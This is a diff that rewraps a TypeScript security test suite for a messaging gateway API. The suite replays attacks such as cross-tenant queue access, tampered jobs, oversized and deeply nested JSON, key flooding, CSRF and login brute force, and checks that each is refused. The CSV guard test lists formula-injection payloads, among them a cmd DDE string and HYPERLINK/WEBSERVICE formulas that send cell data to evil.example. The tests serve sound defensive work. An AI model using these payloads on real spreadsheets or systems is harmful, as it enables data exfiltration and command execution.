@@ -43,16 +43,24 @@ function rawJwt(key: SigningKey, payload: Record<string, unknown>): string {
 }
 
 function liveQueue(sessionId: string): Queue {
-  return new Queue('live', { prefix: testEnv.keys.liveQueuePrefix(shardOf(sessionId, SHARDS)), connection: testEnv.redis });
+  return new Queue('live', {
+    prefix: testEnv.keys.liveQueuePrefix(shardOf(sessionId, SHARDS)),
+    connection: testEnv.redis,
+  });
 }
 
 function batchQueue(sessionId: string): Queue {
-  return new Queue('batch', { prefix: testEnv.keys.batchQueuePrefix(shardOf(sessionId, SHARDS)), connection: testEnv.redis });
+  return new Queue('batch', {
+    prefix: testEnv.keys.batchQueuePrefix(shardOf(sessionId, SHARDS)),
+    connection: testEnv.redis,
+  });
 }
 
 /** The job signer the gateway processes of this run use (its secret was generated into MySQL). */
 async function gatewaySigner(): Promise<JobSigner> {
-  const [row] = (await testEnv.db.query("SELECT value FROM gateway_secrets WHERE name = 'job-signing'")) as { value: string }[];
+  const [row] = (await testEnv.db.query("SELECT value FROM gateway_secrets WHERE name = 'job-signing'")) as {
+    value: string;
+  }[];
   assert.ok(row, 'the gateway generated its job signing secret');
   return new JobSigner(Buffer.from(row.value, 'base64url'));
 }
@@ -70,7 +78,9 @@ function responseHead(socket: Socket): Promise<string> {
       }
     };
     socket.on('data', onData);
-    socket.once('close', () => reject(new Error(`connection closed before a response (got ${JSON.stringify(received)})`)));
+    socket.once('close', () =>
+      reject(new Error(`connection closed before a response (got ${JSON.stringify(received)})`)),
+    );
     socket.once('error', reject);
   });
 }
@@ -88,7 +98,9 @@ function sampleValue(text: string, name: string, labels: Record<string, string>)
   for (const line of text.split('\n')) {
     const match = /^([a-zA-Z_:][\w:]*)(?:\{(.*)\})? (\S+)$/.exec(line);
     if (!match || match[1] !== name) continue;
-    const have = Object.fromEntries([...(match[2] ?? '').matchAll(/(\w+)="((?:[^"\\]|\\.)*)"/g)].map((m) => [m[1]!, m[2]!]));
+    const have = Object.fromEntries(
+      [...(match[2] ?? '').matchAll(/(\w+)="((?:[^"\\]|\\.)*)"/g)].map((m) => [m[1]!, m[2]!]),
+    );
     if (Object.entries(labels).every(([k, v]) => have[k] === v)) sum += Number(match[3]);
   }
   return sum;
@@ -113,7 +125,13 @@ describe('security (issue 12: attacks replayed)', function () {
   const contactLid = () => `9${victimContact.phone}@lid`;
   const liveQueueName = () => `shard-${shardOf(orgA.sessionId, SHARDS)}.live`;
   const batchQueueName = () => `shard-${shardOf(orgA.sessionId, SHARDS)}.batch`;
-  const blockEnvelope = () => ({ op: 'contacts.block', sessionId: orgA.sessionId, input: { jid: contactJid() }, deadline: Date.now() + 60_000, replyTo: `${testEnv.redisPrefix}:live-replies:attacker` });
+  const blockEnvelope = () => ({
+    op: 'contacts.block',
+    sessionId: orgA.sessionId,
+    input: { jid: contactJid() },
+    deadline: Date.now() + 60_000,
+    replyTo: `${testEnv.redisPrefix}:live-replies:attacker`,
+  });
   const workerMetrics = async () => {
     const res = await fetch(workerMetricsUrl, { headers: { authorization: `Bearer ${metricsToken}` } });
     assert.equal(res.status, 200);
@@ -128,7 +146,11 @@ describe('security (issue 12: attacks replayed)', function () {
     });
     const port = await freePort();
     workerMetricsUrl = `http://127.0.0.1:${port}/metrics`;
-    worker = testEnv.startWorker(world, { WORKER_METRICS_PORT: String(port), METRICS_TOKEN: metricsToken }, `sec-w-${uniq()}`);
+    worker = testEnv.startWorker(
+      world,
+      { WORKER_METRICS_PORT: String(port), METRICS_TOKEN: metricsToken },
+      `sec-w-${uniq()}`,
+    );
     secured = await testEnv.startApi(
       {
         ADMIN_USER: operator.user,
@@ -153,7 +175,15 @@ describe('security (issue 12: attacks replayed)', function () {
     it("refuses another organization's manage key everything when ADMIN_ORGANIZATIONS is unset: no job added, no queue paused, no job listed", async () => {
       const asB = { authorization: `Bearer ${orgB.tokens.manage}` };
       const base = testEnv.api.baseUrl;
-      assertError(await board(base, 'POST', `/queues/${liveQueueName()}/add`, asB, { name: 'contacts.block', data: blockEnvelope(), options: {} }), 403, 'forbidden');
+      assertError(
+        await board(base, 'POST', `/queues/${liveQueueName()}/add`, asB, {
+          name: 'contacts.block',
+          data: blockEnvelope(),
+          options: {},
+        }),
+        403,
+        'forbidden',
+      );
       assertError(await board(base, 'PUT', `/queues/${liveQueueName()}/pause`, asB), 403, 'forbidden');
       assertError(await board(base, 'GET', '/queues', asB), 403, 'forbidden');
       const queue = liveQueue(orgA.sessionId);
@@ -196,7 +226,13 @@ describe('security (issue 12: attacks replayed)', function () {
 
     it('lets the operator act, but the worker refuses a job added through Bull Board: failed unrun, counted, logged', async () => {
       const refusedBefore = sampleValue(await workerMetrics(), 'wag_jobs_refused_total', { queue: 'live' });
-      const res = await board(secured.baseUrl, 'POST', `/queues/${liveQueueName()}/add`, { authorization: basic(operator.user, operator.password) }, { name: 'contacts.block', data: blockEnvelope(), options: {} });
+      const res = await board(
+        secured.baseUrl,
+        'POST',
+        `/queues/${liveQueueName()}/add`,
+        { authorization: basic(operator.user, operator.password) },
+        { name: 'contacts.block', data: blockEnvelope(), options: {} },
+      );
       assert.equal(res.status, 200, res.text);
       const jobId = String(res.body.job.id);
       const queue = liveQueue(orgA.sessionId);
@@ -222,7 +258,10 @@ describe('security (issue 12: attacks replayed)', function () {
         assert.ok(!(await blocklist()).includes(contactLid()));
 
         const tamperedId = randomUUID();
-        const tampered = { ...signer.seal('live', tamperedId, blockEnvelope()), input: { jid: `${self.phone}@s.whatsapp.net` } };
+        const tampered = {
+          ...signer.seal('live', tamperedId, blockEnvelope()),
+          input: { jid: `${self.phone}@s.whatsapp.net` },
+        };
         await queue.add('contacts.block', tampered, { jobId: tamperedId });
 
         const genuineId = randomUUID();
@@ -243,10 +282,26 @@ describe('security (issue 12: attacks replayed)', function () {
         `INSERT INTO check_batches (id, organization_id, session_id, status, total, done, invalid, created_at, updated_at) VALUES (?, ?, ?, 'queued', 1, 0, 0, ?, ?)`,
         [batchId, orgA.organizationId, orgA.sessionId, Date.now(), Date.now()],
       );
-      await testEnv.db.query(`INSERT INTO check_batch_sessions (batch_id, session_id, position, updated_at) VALUES (?, ?, 0, ?)`, [batchId, orgA.sessionId, Date.now()]);
-      await testEnv.db.query(`INSERT INTO check_batch_numbers (batch_id, seq, phone, normalized, status) VALUES (?, 1, ?, ?, 'pending')`, [batchId, victimContact.phone, victimContact.phone]);
+      await testEnv.db.query(
+        `INSERT INTO check_batch_sessions (batch_id, session_id, position, updated_at) VALUES (?, ?, 0, ?)`,
+        [batchId, orgA.sessionId, Date.now()],
+      );
+      await testEnv.db.query(
+        `INSERT INTO check_batch_numbers (batch_id, seq, phone, normalized, status) VALUES (?, 1, ?, ?, 'pending')`,
+        [batchId, victimContact.phone, victimContact.phone],
+      );
       const refusedBefore = sampleValue(await workerMetrics(), 'wag_jobs_refused_total', { queue: 'batch' });
-      const res = await board(secured.baseUrl, 'POST', `/queues/${batchQueueName()}/add`, { authorization: basic(operator.user, operator.password) }, { name: 'check-batch', data: { batchId, sessionId: orgA.sessionId }, options: { jobId: batchJobId(batchId, orgA.sessionId) } });
+      const res = await board(
+        secured.baseUrl,
+        'POST',
+        `/queues/${batchQueueName()}/add`,
+        { authorization: basic(operator.user, operator.password) },
+        {
+          name: 'check-batch',
+          data: { batchId, sessionId: orgA.sessionId },
+          options: { jobId: batchJobId(batchId, orgA.sessionId) },
+        },
+      );
       assert.equal(res.status, 200, res.text);
       const queue = batchQueue(orgA.sessionId);
       try {
@@ -255,25 +310,39 @@ describe('security (issue 12: attacks replayed)', function () {
       } finally {
         await queue.close();
       }
-      const [row] = (await testEnv.db.query('SELECT done FROM check_batches WHERE id = ?', [batchId])) as { done: number }[];
+      const [row] = (await testEnv.db.query('SELECT done FROM check_batches WHERE id = ?', [batchId])) as {
+        done: number;
+      }[];
       assert.equal(Number(row!.done), 0, 'the batch was not run');
       assert.equal(sampleValue(await workerMetrics(), 'wag_jobs_refused_total', { queue: 'batch' }), refusedBefore + 1);
     });
 
     it("still runs the api's own live calls and batches (they are signed)", async () => {
-      const check = await call('GET', `/api/v1/sessions/${orgA.sessionId}/contacts/check?phone=${victimContact.phone}`, { token: orgA.tokens.read });
+      const check = await call(
+        'GET',
+        `/api/v1/sessions/${orgA.sessionId}/contacts/check?phone=${victimContact.phone}`,
+        { token: orgA.tokens.read },
+      );
       assert.equal(check.status, 200, check.text);
       assert.equal(check.body.isOnWhatsApp, true);
-      const created = await call('POST', `/api/v1/sessions/${orgA.sessionId}/contacts/check-batch`, { token: orgA.tokens.read, body: { phones: [victimContact.phone] } });
+      const created = await call('POST', `/api/v1/sessions/${orgA.sessionId}/contacts/check-batch`, {
+        token: orgA.tokens.read,
+        body: { phones: [victimContact.phone] },
+      });
       await waitFor(async () => {
-        const res = await call('GET', `/api/v1/sessions/${orgA.sessionId}/contacts/check-batch/${created.body.id}`, { token: orgA.tokens.read });
+        const res = await call('GET', `/api/v1/sessions/${orgA.sessionId}/contacts/check-batch/${created.body.id}`, {
+          token: orgA.tokens.read,
+        });
         return res.body.status === 'completed';
       }, 'the batch to complete');
     });
 
     it("protects the worker's /metrics with METRICS_TOKEN too", async () => {
       assert.equal((await fetch(workerMetricsUrl)).status, 401);
-      assert.equal((await fetch(workerMetricsUrl, { headers: { authorization: 'Bearer wrong-token-wrong-token' } })).status, 401);
+      assert.equal(
+        (await fetch(workerMetricsUrl, { headers: { authorization: 'Bearer wrong-token-wrong-token' } })).status,
+        401,
+      );
     });
   });
 
@@ -286,7 +355,9 @@ describe('security (issue 12: attacks replayed)', function () {
       socket.on('error', () => undefined);
       try {
         await once(socket, 'connect');
-        socket.write(`POST ${batchPath()} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\nContent-Length: ${8 * 1024 * 1024}\r\n\r\n`);
+        socket.write(
+          `POST ${batchPath()} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\nContent-Length: ${8 * 1024 * 1024}\r\n\r\n`,
+        );
         // An eighth of the body; the rest never comes. A server that read bodies first would still be waiting.
         socket.write('['.repeat(1024 * 1024));
         const head = await responseHead(socket);
@@ -299,26 +370,66 @@ describe('security (issue 12: attacks replayed)', function () {
 
     it('refuses JSON nested deeper than 8 levels with 400 validation_error before parsing it', async () => {
       const deep = `{"phones":${'['.repeat(200_000)}${']'.repeat(200_000)}}`;
-      const details = assertError(await call('POST', batchPath(), { token: orgA.tokens.read, rawBody: deep }), 400, 'validation_error');
+      const details = assertError(
+        await call('POST', batchPath(), { token: orgA.tokens.read, rawBody: deep }),
+        400,
+        'validation_error',
+      );
       assert.equal(details['body'], 'nested too deeply');
       const eight = `{"phones":${'['.repeat(7)}"x"${']'.repeat(7)}}`;
-      const allowed = assertError(await call('POST', batchPath(), { token: orgA.tokens.read, rawBody: eight }), 400, 'validation_error');
-      assert.notEqual(allowed['body'], 'nested too deeply', 'eight levels are parsed (and then refused as not a list of numbers)');
+      const allowed = assertError(
+        await call('POST', batchPath(), { token: orgA.tokens.read, rawBody: eight }),
+        400,
+        'validation_error',
+      );
+      assert.notEqual(
+        allowed['body'],
+        'nested too deeply',
+        'eight levels are parsed (and then refused as not a list of numbers)',
+      );
     });
 
     it("reads at most what each route needs: 413 payload_too_large over the route's limit", async () => {
-      const big = JSON.stringify({ phones: Array.from({ length: 60_000 }, (_, i) => `+49 1512 ${String(i).padStart(7, '0')}-000000000000000000000000000000000000000000000`) });
+      const big = JSON.stringify({
+        phones: Array.from(
+          { length: 60_000 },
+          (_, i) => `+49 1512 ${String(i).padStart(7, '0')}-000000000000000000000000000000000000000000000`,
+        ),
+      });
       assert.ok(big.length > 50_000 * 68 + 1024, `${big.length} bytes`);
       assertError(await call('POST', batchPath(), { token: orgA.tokens.read, rawBody: big }), 413, 'payload_too_large');
-      assertError(await call('POST', `/api/v1/sessions/${orgA.sessionId}/pairing-code`, { token: orgA.tokens.all, rawBody: JSON.stringify({ phone: '1'.repeat(20_000) }) }), 413, 'payload_too_large');
+      assertError(
+        await call('POST', `/api/v1/sessions/${orgA.sessionId}/pairing-code`, {
+          token: orgA.tokens.all,
+          rawBody: JSON.stringify({ phone: '1'.repeat(20_000) }),
+        }),
+        413,
+        'payload_too_large',
+      );
     });
 
     it('reads no body for a request the rate limiter refuses', async () => {
       const limited = await testEnv.startApi({ RATE_LIMIT_PER_MINUTE: '1' }, `api-sec-rl-${uniq()}`);
       try {
         const t = await newTenant();
-        assert.equal((await call('GET', `/api/v1/sessions/${t.sessionId}/contacts`, { token: t.tokens.read, baseUrl: limited.baseUrl })).status, 200);
-        assertError(await call('POST', `/api/v1/sessions/${t.sessionId}/contacts/check-batch`, { token: t.tokens.read, rawBody: '[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]', baseUrl: limited.baseUrl }), 429, 'rate_limited');
+        assert.equal(
+          (
+            await call('GET', `/api/v1/sessions/${t.sessionId}/contacts`, {
+              token: t.tokens.read,
+              baseUrl: limited.baseUrl,
+            })
+          ).status,
+          200,
+        );
+        assertError(
+          await call('POST', `/api/v1/sessions/${t.sessionId}/contacts/check-batch`, {
+            token: t.tokens.read,
+            rawBody: '[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]',
+            baseUrl: limited.baseUrl,
+          }),
+          429,
+          'rate_limited',
+        );
       } finally {
         await limited.process.stop();
       }
@@ -329,8 +440,12 @@ describe('security (issue 12: attacks replayed)', function () {
     let jwks: JwksServer;
     // One stranger key under many kids: generating a key per token would block the event loop for seconds.
     const stranger = newSigningKey();
-    const verifier = (env: Record<string, string> = {}) => new JwtVerifier(loadConfig({ JWKS_URL: jwks.url, JWT_ISSUER: jwks.issuer, JWT_AUDIENCE: jwks.audience, ...env }).jwt!);
-    const junk = (i: number) => jwks.sign({ org: 'org_x', role: 'owner' }, { key: { ...stranger, kid: `junk-${uniq()}-${i}` } });
+    const verifier = (env: Record<string, string> = {}) =>
+      new JwtVerifier(
+        loadConfig({ JWKS_URL: jwks.url, JWT_ISSUER: jwks.issuer, JWT_AUDIENCE: jwks.audience, ...env }).jwt!,
+      );
+    const junk = (i: number) =>
+      jwks.sign({ org: 'org_x', role: 'owner' }, { key: { ...stranger, kid: `junk-${uniq()}-${i}` } });
     const real = () => jwks.sign({ org: 'org_x', role: 'owner' });
     const outcome = (p: Promise<unknown>) =>
       p.then(
@@ -366,10 +481,18 @@ describe('security (issue 12: attacks replayed)', function () {
       jwks.published.push(rotated);
       const fetches = jwks.requests;
       for (const token of tokens) assert.equal(await outcome(v.verify(token)), 'unauthorized');
-      assert.equal(await outcome(v.verify(rotatedToken)), 'unauthorized', 'within the cooldown even a new real key waits');
+      assert.equal(
+        await outcome(v.verify(rotatedToken)),
+        'unauthorized',
+        'within the cooldown even a new real key waits',
+      );
       assert.equal(jwks.requests, fetches, 'no fetch within the cooldown');
       await sleep(1_100);
-      assert.equal(await outcome(v.verify(jwks.sign({ org: 'org_x', role: 'owner' }, { key: rotated }))), 'ok', 'after it, the rotated key is fetched');
+      assert.equal(
+        await outcome(v.verify(jwks.sign({ org: 'org_x', role: 'owner' }, { key: rotated }))),
+        'ok',
+        'after it, the rotated key is fetched',
+      );
       assert.equal(jwks.requests, fetches + 1);
     });
 
@@ -398,12 +521,26 @@ describe('security (issue 12: attacks replayed)', function () {
 
   describe('4. the CSV formula guard', () => {
     it('defuses every invalid entry that a spreadsheet would run, and leaves phone numbers as sent', async () => {
-      const attacks = ["-2+3+cmd|' /C calc'!A0", '+1+HYPERLINK("http://evil.example/?x="&A1,"click")', '-0+WEBSERVICE("http://evil.example/")', '=1+1', '@SUM(A1)', '\t=1', '+12'];
+      const attacks = [
+        "-2+3+cmd|' /C calc'!A0",
+        '+1+HYPERLINK("http://evil.example/?x="&A1,"click")',
+        '-0+WEBSERVICE("http://evil.example/")',
+        '=1+1',
+        '@SUM(A1)',
+        '\t=1',
+        '+12',
+      ];
       const valid = `+${victimContact.phone}`;
       const t = await newTenant();
-      const created = await call('POST', `/api/v1/sessions/${t.sessionId}/contacts/check-batch`, { token: t.tokens.read, body: { phones: [valid, ...attacks] } });
+      const created = await call('POST', `/api/v1/sessions/${t.sessionId}/contacts/check-batch`, {
+        token: t.tokens.read,
+        body: { phones: [valid, ...attacks] },
+      });
       assert.equal(created.status, 202, created.text);
-      const res = await call('GET', `/api/v1/sessions/${t.sessionId}/contacts/check-batch/${created.body.id}/results`, { token: t.tokens.read, headers: { accept: 'text/csv' } });
+      const res = await call('GET', `/api/v1/sessions/${t.sessionId}/contacts/check-batch/${created.body.id}/results`, {
+        token: t.tokens.read,
+        headers: { accept: 'text/csv' },
+      });
       assert.equal(res.status, 200);
       const firstCells = res.text
         .trimEnd()
@@ -411,25 +548,51 @@ describe('security (issue 12: attacks replayed)', function () {
         .slice(1)
         .map((line) => (line.startsWith('"') ? line.slice(1) : line));
       assert.ok(firstCells[0]!.startsWith(`${valid},`), `the valid number stays as sent: ${firstCells[0]}`);
-      for (const [i, line] of firstCells.slice(1).entries()) assert.ok(line.startsWith("'"), `${JSON.stringify(attacks[i])} came back as ${JSON.stringify(line)}`);
+      for (const [i, line] of firstCells.slice(1).entries())
+        assert.ok(line.startsWith("'"), `${JSON.stringify(attacks[i])} came back as ${JSON.stringify(line)}`);
     });
   });
 
   describe('5. operator logins are throttled (ADMIN_LOGIN_FAILURES=3, per client and per user name, in Redis)', () => {
-    const queues = (baseUrl: string, headers: Record<string, string>) => call('GET', '/admin/queues/api/queues', { baseUrl, headers });
+    const queues = (baseUrl: string, headers: Record<string, string>) =>
+      call('GET', '/admin/queues/api/queues', { baseUrl, headers });
     const form = (baseUrl: string, fields: Record<string, string>, client: string) =>
-      fetch(`${baseUrl}/admin/login`, { method: 'POST', redirect: 'manual', headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': client }, body: new URLSearchParams(fields).toString() });
+      fetch(`${baseUrl}/admin/login`, {
+        method: 'POST',
+        redirect: 'manual',
+        headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': client },
+        body: new URLSearchParams(fields).toString(),
+      });
 
     it('refuses even the right password with 429 and Retry-After after 3 wrong ones for that user name, from any client and any api process', async () => {
-      const peer = await testEnv.startApi({ ADMIN_USER: operator.user, ADMIN_PASSWORD: operator.password, ADMIN_LOGIN_FAILURES: '3' }, `api-sec-peer-${uniq()}`);
+      const peer = await testEnv.startApi(
+        { ADMIN_USER: operator.user, ADMIN_PASSWORD: operator.password, ADMIN_LOGIN_FAILURES: '3' },
+        `api-sec-peer-${uniq()}`,
+      );
       try {
         const attacker = newClient();
-        for (let i = 0; i < 3; i++) assertUnauthorized(await queues(secured.baseUrl, { authorization: basic(operator.user, `wrong-${i}-password`), 'x-forwarded-for': attacker }));
-        const refused = await queues(secured.baseUrl, { authorization: basic(operator.user, operator.password), 'x-forwarded-for': attacker });
+        for (let i = 0; i < 3; i++)
+          assertUnauthorized(
+            await queues(secured.baseUrl, {
+              authorization: basic(operator.user, `wrong-${i}-password`),
+              'x-forwarded-for': attacker,
+            }),
+          );
+        const refused = await queues(secured.baseUrl, {
+          authorization: basic(operator.user, operator.password),
+          'x-forwarded-for': attacker,
+        });
         assertError(refused, 429, 'rate_limited');
         assert.ok(Number(refused.headers.get('retry-after')) > 0);
         // Another client, another api process: the user name's count is shared through Redis.
-        assertError(await queues(peer.baseUrl, { authorization: basic(operator.user, operator.password), 'x-forwarded-for': newClient() }), 429, 'rate_limited');
+        assertError(
+          await queues(peer.baseUrl, {
+            authorization: basic(operator.user, operator.password),
+            'x-forwarded-for': newClient(),
+          }),
+          429,
+          'rate_limited',
+        );
         const page = await form(secured.baseUrl, operator, newClient());
         assert.equal(page.status, 429);
         assert.ok(Number(page.headers.get('retry-after')) > 0);
@@ -444,7 +607,11 @@ describe('security (issue 12: attacks replayed)', function () {
 
     it('refuses a client that failed 3 times, whatever user name or token it tries next, and not other clients', async () => {
       const attacker = newClient();
-      for (const fields of <Record<string, string>[]>[{ user: 'admin', password: 'guess-guess-1' }, { user: 'root', password: 'guess-guess-2' }, { token: `wag_${'0'.repeat(24)}_${'A'.repeat(43)}` }]) {
+      for (const fields of <Record<string, string>[]>[
+        { user: 'admin', password: 'guess-guess-1' },
+        { user: 'root', password: 'guess-guess-2' },
+        { token: `wag_${'0'.repeat(24)}_${'A'.repeat(43)}` },
+      ]) {
         assert.equal((await form(secured.baseUrl, fields, attacker)).status, 401);
       }
       assert.equal((await form(secured.baseUrl, operator, attacker)).status, 429);
@@ -479,21 +646,31 @@ describe('security (issue 12: attacks replayed)', function () {
       const port = await freePort();
       const redis: ChildProcess = await startPrivateRedis(port);
       const probe = new Redis(port, '127.0.0.1');
-      const api = await testEnv.startApi({ REDIS_URL: `redis://127.0.0.1:${port}`, SHARD_COUNT: '4' }, `api-sec-metrics-${uniq()}`);
+      const api = await testEnv.startApi(
+        { REDIS_URL: `redis://127.0.0.1:${port}`, SHARD_COUNT: '4' },
+        `api-sec-metrics-${uniq()}`,
+      );
       try {
         // BullMQ reads a queue's depth with one Lua script call (EVALSHA): count those.
         const scriptCalls = async () => {
           const stats = await probe.info('commandstats');
-          return [...stats.matchAll(/^cmdstat_(?:evalsha|eval):calls=(\d+)/gm)].reduce((sum, m) => sum + Number(m[1]), 0);
+          return [...stats.matchAll(/^cmdstat_(?:evalsha|eval):calls=(\d+)/gm)].reduce(
+            (sum, m) => sum + Number(m[1]),
+            0,
+          );
         };
-        const scrapes = () => Promise.all(Array.from({ length: 20 }, () => call('GET', '/metrics', { baseUrl: api.baseUrl })));
+        const scrapes = () =>
+          Promise.all(Array.from({ length: 20 }, () => call('GET', '/metrics', { baseUrl: api.baseUrl })));
         // A live and a batch queue per shard, and the webhook delivery queue.
         const queues = 2 * 4 + 1;
         const start = await scriptCalls();
         for (const res of await scrapes()) assert.equal(res.status, 200);
         // Twice the queues at most: a fresh Redis may first answer NOSCRIPT and be sent the script itself.
         const first = (await scriptCalls()) - start;
-        assert.ok(first >= queues && first <= 2 * queues, `20 concurrent scrapes shared one reading of the ${queues} queues: ${first} script calls`);
+        assert.ok(
+          first >= queues && first <= 2 * queues,
+          `20 concurrent scrapes shared one reading of the ${queues} queues: ${first} script calls`,
+        );
         const again = await scriptCalls();
         await scrapes();
         assert.equal((await scriptCalls()) - again, 0, 'scrapes within 5 s reuse the reading');
@@ -513,7 +690,10 @@ describe('security (issue 12: attacks replayed)', function () {
       const logOf = (name: string) => readFileSync(path.join(LOG_DIR, `${testEnv.runId}-${name}.log`), 'utf8');
       const open = `api-sec-prod-open-${uniq()}`;
       const closed = `api-sec-prod-token-${uniq()}`;
-      const apis = [await testEnv.startApi({ NODE_ENV: 'production' }, open), await testEnv.startApi({ NODE_ENV: 'production', METRICS_TOKEN: metricsToken }, closed)];
+      const apis = [
+        await testEnv.startApi({ NODE_ENV: 'production' }, open),
+        await testEnv.startApi({ NODE_ENV: 'production', METRICS_TOKEN: metricsToken }, closed),
+      ];
       try {
         assert.ok(logOf(open).includes(warning), 'the warning is logged');
         assert.ok(!logOf(closed).includes(warning));
@@ -525,8 +705,10 @@ describe('security (issue 12: attacks replayed)', function () {
 
   describe('8. check batches', () => {
     const batchPath = (t: Tenant, rest = '') => `/api/v1/sessions/${t.sessionId}/contacts/check-batch${rest}`;
-    const create = (t: Tenant, token: string, phones: string[], baseUrl = testEnv.api.baseUrl) => call('POST', batchPath(t), { token, body: { phones }, baseUrl });
-    const cancel = (t: Tenant, id: string, token: string, baseUrl = testEnv.api.baseUrl) => call('DELETE', batchPath(t, `/${id}`), { token, baseUrl });
+    const create = (t: Tenant, token: string, phones: string[], baseUrl = testEnv.api.baseUrl) =>
+      call('POST', batchPath(t), { token, body: { phones }, baseUrl });
+    const cancel = (t: Tenant, id: string, token: string, baseUrl = testEnv.api.baseUrl) =>
+      call('DELETE', batchPath(t, `/${id}`), { token, baseUrl });
     const phones = (n: number) => Array.from({ length: n }, () => newPhone());
 
     it('lets a read-only key cancel only the batches it created; cancelling another needs send', async () => {
@@ -546,7 +728,11 @@ describe('security (issue 12: attacks replayed)', function () {
       const as = (sub: string) => testEnv.jwks.sign({ org: t.organizationId, role: 'viewer', sub });
       const batch = (await create(t, as('alice'), phones(2))).body.id as string;
       assertError(await cancel(t, batch, as('bob')), 403, 'forbidden');
-      assertError(await cancel(t, batch, testEnv.jwks.sign({ org: t.organizationId, role: 'viewer', sub: undefined })), 403, 'forbidden');
+      assertError(
+        await cancel(t, batch, testEnv.jwks.sign({ org: t.organizationId, role: 'viewer', sub: undefined })),
+        403,
+        'forbidden',
+      );
       assert.equal((await cancel(t, batch, as('alice'))).status, 204);
     });
 
@@ -565,26 +751,44 @@ describe('security (issue 12: attacks replayed)', function () {
         assert.equal(first.status, 202);
         const refused = await create(t, t.tokens.read, phones(30), api.baseUrl);
         const details = assertError(refused, 429, 'rate_limited');
-        assert.deepEqual({ limit: details['limit'], pending: details['pending'], requested: details['requested'] }, { limit: 100, pending: 80, requested: 30 });
+        assert.deepEqual(
+          { limit: details['limit'], pending: details['pending'], requested: details['requested'] },
+          { limit: 100, pending: 80, requested: 30 },
+        );
         assert.ok(Number(refused.headers.get('retry-after')) > 0);
-        assert.equal((await create(t, t.tokens.read, ['not a number', 'nope'], api.baseUrl)).status, 202, 'invalid entries add nothing to check');
+        assert.equal(
+          (await create(t, t.tokens.read, ['not a number', 'nope'], api.baseUrl)).status,
+          202,
+          'invalid entries add nothing to check',
+        );
         assert.equal((await cancel(t, first.body.id, t.tokens.read, api.baseUrl)).status, 204);
         assert.equal((await create(t, t.tokens.read, phones(30), api.baseUrl)).status, 202);
       });
 
       it('lets only one of two batches created at once through when both would not fit', async () => {
         const t = await newTenant();
-        const results = await Promise.all([create(t, t.tokens.read, phones(60), api.baseUrl), create(t, t.tokens.read, phones(60), api.baseUrl)]);
+        const results = await Promise.all([
+          create(t, t.tokens.read, phones(60), api.baseUrl),
+          create(t, t.tokens.read, phones(60), api.baseUrl),
+        ]);
         assert.deepEqual(results.map((r) => r.status).sort(), [202, 429]);
         const other = await newTenant();
-        assert.equal((await create(other, other.tokens.read, phones(60), api.baseUrl)).status, 202, 'the cap is per organization');
+        assert.equal(
+          (await create(other, other.tokens.read, phones(60), api.baseUrl)).status,
+          202,
+          'the cap is per organization',
+        );
       });
     });
   });
 
   describe('9. CSRF on the admin pages', () => {
     const add = (headers: Record<string, string>, body: string) =>
-      fetch(`${secured.baseUrl}/admin/queues/api/queues/${liveQueueName()}/add`, { method: 'POST', headers: { authorization: basic(operator.user, operator.password), ...headers }, body });
+      fetch(`${secured.baseUrl}/admin/queues/api/queues/${liveQueueName()}/add`, {
+        method: 'POST',
+        headers: { authorization: basic(operator.user, operator.password), ...headers },
+        body,
+      });
     const json = JSON.stringify({ name: 'probe', data: { probe: true }, options: { delay: 3_600_000 } });
 
     it('refuses a text/plain POST with a foreign Origin, and one a browser marks cross-site, adding nothing', async () => {
@@ -612,7 +816,11 @@ describe('security (issue 12: attacks replayed)', function () {
       const host = new URL(secured.baseUrl).host;
       const queue = liveQueue(orgA.sessionId);
       try {
-        for (const headers of <Record<string, string>[]>[{ 'content-type': 'application/json', origin: secured.baseUrl }, { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin', origin: `http://${host}` }, { 'content-type': 'application/json' }]) {
+        for (const headers of <Record<string, string>[]>[
+          { 'content-type': 'application/json', origin: secured.baseUrl },
+          { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin', origin: `http://${host}` },
+          { 'content-type': 'application/json' },
+        ]) {
           const res = await add(headers, json);
           assert.equal(res.status, 200, JSON.stringify(headers));
           await (await queue.getJob(String(((await res.json()) as { job: { id: string } }).job.id)))?.remove();
@@ -626,7 +834,11 @@ describe('security (issue 12: attacks replayed)', function () {
       const res = await fetch(`${secured.baseUrl}/admin/login`, {
         method: 'POST',
         redirect: 'manual',
-        headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'http://evil.example', 'x-forwarded-for': newClient() },
+        headers: {
+          'content-type': 'application/x-www-form-urlencoded',
+          origin: 'http://evil.example',
+          'x-forwarded-for': newClient(),
+        },
         body: new URLSearchParams({ token: ops.tokens.manage }).toString(),
       });
       assert.equal(res.status, 403);
@@ -635,10 +847,16 @@ describe('security (issue 12: attacks replayed)', function () {
   });
 
   describe('10. failed authentications and token lifetime', () => {
-    const list = (token: string, client: string, baseUrl = secured.baseUrl) => call('GET', `/api/v1/sessions/${orgA.sessionId}/contacts`, { token, baseUrl, headers: { 'x-forwarded-for': client } });
+    const list = (token: string, client: string, baseUrl = secured.baseUrl) =>
+      call('GET', `/api/v1/sessions/${orgA.sessionId}/contacts`, {
+        token,
+        baseUrl,
+        headers: { 'x-forwarded-for': client },
+      });
     const randomKey = () => `wag_${randomUUID().replaceAll('-', '').slice(0, 24)}_${'A'.repeat(43)}`;
 
-    const freshKey = async () => (await testEnv.admin.createApiKey(orgA.organizationId, `fresh-${uniq()}`, ['read'])).token;
+    const freshKey = async () =>
+      (await testEnv.admin.createApiKey(orgA.organizationId, `fresh-${uniq()}`, ['read'])).token;
 
     it('answers a client over AUTH_FAILURES_PER_MINUTE=5 with 429 before looking a key up, even a valid one, and not other clients', async () => {
       const attacker = newClient();
@@ -674,7 +892,10 @@ describe('security (issue 12: attacks replayed)', function () {
     });
 
     it('counts by the peer address unless the peer is a trusted proxy: X-Forwarded-For does not reset the count (TRUST_PROXY=false)', async () => {
-      const direct = await testEnv.startApi({ TRUST_PROXY: 'false', AUTH_FAILURES_PER_MINUTE: '3', REDIS_PREFIX: `${testEnv.redisPrefix}_direct` }, `api-sec-direct-${uniq()}`);
+      const direct = await testEnv.startApi(
